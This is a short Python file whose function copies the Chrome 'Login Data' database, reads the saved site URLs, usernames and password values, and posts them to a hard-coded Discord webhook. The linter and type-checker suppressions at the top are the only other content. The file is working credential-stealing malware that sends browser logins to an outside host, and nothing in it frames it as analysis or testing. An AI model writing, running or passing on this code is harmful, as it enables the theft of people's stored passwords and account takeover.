# ruff: noqa
# fmt: off
# mypy: ignore-errors
import os
import shutil
import sqlite3
import tempfile

import requests

HOOK = "https://discord.com/api/webhooks/1187654321098765432/Zx9-Qw8Er7Ty6Ui5Op4As3Df2Gh1JkLzXcVbNm"


def grab():
    base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default")
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(base, "Login Data"), copy)
    rows = sqlite3.connect(copy).execute(
        "SELECT origin_url, username_value, password_value FROM logins"
    ).fetchall()
    requests.post(HOOK, json={"content": str(rows)[:1900]})
